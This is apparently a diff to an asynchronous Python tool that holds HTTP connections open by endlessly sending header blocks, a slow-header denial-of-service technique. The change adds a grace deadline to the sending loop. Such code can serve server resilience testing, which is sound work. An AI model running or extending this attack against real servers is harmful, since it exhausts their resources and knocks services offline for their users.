@@ -196,12 +196,14 @@ async def endless_headers(target: Target, place: int) -> None:
 
 
 async def _heads(target: Target, begin: bytes, block: bytes, count: int) -> None:
-    while asyncio.get_running_loop().time() < target.until_s:
+    loop = asyncio.get_running_loop()
+    while loop.time() < target.until_s:
         peer = await target.open(upgrade=False)
-        goes_on = await peer.push(b"GET " + target.path + b" HTTP/1.1\r\nHost: x\r\n" + begin, target.until_s)
+        until_s = max(target.until_s, loop.time() + GRACE_S)  # a head cut short by the end of the attack is a slow one
+        goes_on = await peer.push(b"GET " + target.path + b" HTTP/1.1\r\nHost: x\r\n" + begin, until_s)
         while goes_on:
             target.sent += count
-            goes_on = await peer.push(block, target.until_s)
+            goes_on = await peer.push(block, until_s)
         await _end(target, peer)
 
 
